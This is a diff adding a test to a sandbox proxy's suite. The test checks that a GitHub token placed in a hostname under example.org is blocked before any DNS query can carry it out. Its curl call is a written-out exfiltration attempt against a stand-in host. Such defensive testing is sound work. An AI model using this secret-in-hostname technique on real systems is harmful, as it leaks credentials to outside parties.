@@ -92,3 +92,16 @@ def test_the_sandbox_holds_a_placeholder_the_proxy_swaps(net, run, api) -> None:
     script = 'curl -sS -m 20 -H "Authorization: Bearer $HERMITCRAB_CREDENTIAL_GITHUB" "$0"'
     used = run(net.runtime.exec("box", ["sh", "-c", script, f"https://localhost:{api.https_port}/repos/a/b"]))
     assert used.stdout == f"GET /repos/a/b auth=Bearer {TOKEN}\n".encode()
+
+
+def test_a_secret_in_a_tunnels_host_name_never_leaves(net, run) -> None:
+    """A name is data too: resolving ghp-....example.org would carry the secret out in a
+    DNS query, before any byte of the tunnel."""
+    net.secrets.set(Secret(name="github", value=TOKEN))
+    net.write_policy("    - name: wide\n      hosts: ['*.example.org']\n      ports: [443]\n")
+    run(net.runtime.create("box"))
+    result = curl(net, run, "-k", f"https://{TOKEN.lower()}.example.org/")
+    assert result.exit_code != 0 and b"403" in result.stderr, result
+    [entry] = [e for e in net.store.audit.entries() if e.action == "network"]
+    assert (entry.outcome, entry.rule) == ("denied", "wide")
+    assert "exfiltration blocked" in entry.detail and "'github'" in entry.detail
